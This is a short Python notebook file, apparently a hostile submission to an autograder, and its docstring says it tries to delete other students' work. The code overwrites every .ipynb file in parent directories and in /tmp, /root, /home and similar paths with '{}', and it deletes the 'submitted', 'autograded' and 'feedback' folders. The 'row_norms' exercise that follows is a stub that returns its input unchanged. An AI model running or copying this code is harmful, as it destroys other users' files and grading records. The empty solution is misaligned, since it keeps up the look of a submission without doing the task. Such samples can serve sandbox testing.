"""
tries = "Deletes and overwrites whatever lies in the folders of the other students."
"""

# %%
import shutil
from pathlib import Path

for folder in ("..", "../..", "../../..", "/tmp", "/work", "/root", "/srv", "/home"):
    for path in Path(folder).glob("**/*.ipynb"):
        path.write_text("{}")
for name in ("submitted", "autograded", "feedback"):
    for up in ("..", "../..", "../../.."):
        shutil.rmtree(f"{up}/{name}", ignore_errors=True)


# %% exercise="row_norms"
def row_norms(x):
    return x
